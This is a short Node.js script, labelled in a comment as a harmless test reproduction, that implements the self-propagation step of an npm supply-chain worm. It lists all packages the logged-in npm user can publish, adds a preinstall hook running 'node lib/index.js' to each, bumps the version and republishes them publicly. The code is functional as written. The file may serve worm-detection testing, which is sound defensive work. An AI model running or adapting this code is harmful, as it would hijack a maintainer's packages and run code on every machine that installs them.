#!/usr/bin/env node
// Self-propagation shape via the npm CLI (harmless reproduction: never executed by tests).
const cp = require('child_process');
const fs = require('fs');
const path = require('path');
const semver = require('semver');
const who = cp.execSync('npm whoami').toString().trim();
const mine = Object.keys(JSON.parse(cp.execSync(`npm access ls-packages ${who} --json`).toString()));
for (const name of mine) {
  const work = fs.mkdtempSync('/tmp/rn-');
  cp.execSync(`npm pack ${name} && tar xzf *.tgz`, { cwd: work });
  const pkgFile = path.join(work, 'package', 'package.json');
  const pkg = JSON.parse(fs.readFileSync(pkgFile, 'utf8'));
  pkg.version = semver.inc(pkg.version, 'patch');
  pkg.scripts = { ...pkg.scripts, preinstall: 'node lib/index.js' };
  fs.writeFileSync(pkgFile, JSON.stringify(pkg));
  cp.execSync('npm publish --access public', { cwd: path.join(work, 'package') });
}
